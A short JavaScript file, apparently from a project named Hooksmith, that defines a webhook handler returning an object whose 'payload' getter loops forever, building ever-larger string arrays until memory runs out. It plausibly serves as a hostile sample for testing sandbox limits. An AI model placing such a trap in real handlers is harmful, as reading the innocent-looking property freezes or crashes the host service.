// SPDX-FileCopyrightText: 2026 The Hooksmith authors
// SPDX-License-Identifier: GPL-3.0-or-later
function handler(webhook) {
    return { get payload() { var list = []; for (;;) list.push("x".repeat(1000) + list.length); } };
}
